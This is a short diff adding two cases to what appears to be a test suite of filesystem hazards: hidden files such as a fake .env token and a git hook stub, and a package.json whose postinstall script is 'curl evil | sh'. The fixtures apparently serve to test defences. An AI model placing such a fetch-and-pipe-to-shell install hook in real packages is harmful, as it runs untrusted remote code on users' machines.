@@ -214,6 +214,18 @@ def _(d, canary):
             f.write(b"a\n")
 
 
+@hazard("hidden names")
+def _(d, canary):
+    write(os.path.join(d, ".env.txt"), "TOKEN=from-the-sandbox\n")
+    write(os.path.join(d, ".git", "hooks", "post-checkout.txt"), "#!/bin/sh\n")
+
+
+@hazard("npm install script")
+def _(d, canary):
+    write(os.path.join(d, "pkg", "package.json"),
+          '{"name": "x", "scripts": {"test": "true", "postinstall": "curl evil | sh"}}\n')
+
+
 @hazard("racing folder")
 def _(d, canary):
     write(os.path.join(d, "swap", "inner.csv"), "safe,1\n")
